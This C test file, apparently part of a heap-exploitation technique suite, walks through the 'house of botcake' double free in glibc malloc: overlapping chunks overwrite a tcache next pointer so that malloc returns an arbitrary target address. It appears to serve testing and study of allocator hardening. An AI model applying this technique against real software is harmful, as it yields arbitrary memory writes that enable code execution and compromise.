/* tech-house-of-botcake: a double free that glibc's tcache key does not
   see.  With the tcache bin full, a chunk A is freed into the unsorted
   bin, where it merges with the free chunk before it; one tcache slot is
   then emptied and A is freed again: it goes into the tcache while also
   lying inside the merged free chunk.  An allocation carved from the
   merged chunk covers A's tcache entry, whose next pointer it rewrites.
   Goal: malloc returns the target.  */

#include "tech-support.h"

static _Alignas (16) size_t target[8];

int
main (void)
{
  tech_begin ("house of botcake");
  void *fill[7];
  for (int i = 0; i < 7; i++)
    fill[i] = tech_keep (malloc (0x100));
  size_t *prev = tech_keep (malloc (0x100));
  size_t *a = tech_keep (malloc (0x100));
  void *guard = tech_keep (malloc (0x10));
  tech_require_adjacent (prev, a, 0x110);
  for (int i = 0; i < 7; i++)
    free (fill[i]); /* the 0x110 tcache bin is full */

  free (a);    /* into the unsorted bin */
  free (prev); /* merges with a: one 0x220 free chunk */
  malloc (0x100); /* a free slot in the tcache bin */
  tst_info ("freeing %p again: it is inside a free 0x220 chunk", a);
  free (tst_opaque_ptr (a)); /* into the tcache */

  /* Carved from the merged chunk: starts at prev, covers a's entry.  */
  size_t *cover = tech_keep (malloc (0x120));
  void **a_next = (void **) ((char *) cover + 0x110);
  if (!tech_same (a_next, a))
    tech_setup_failed ("the 0x120 block %p does not cover %p", cover, a);
  tst_info ("the 0x120 block %p covers the tcache entry %p", cover, a);
  *a_next = tech_protect (a_next, target);

  void *first = tech_keep (malloc (0x100));
  void *win = tech_keep (malloc (0x100));
  tst_info ("malloc returned %p, then %p", first, win);
  free (guard);
  tech_result (tech_same (win, target),
               "malloc returned the target %p (got %p)", (void *) target,
               win);
}
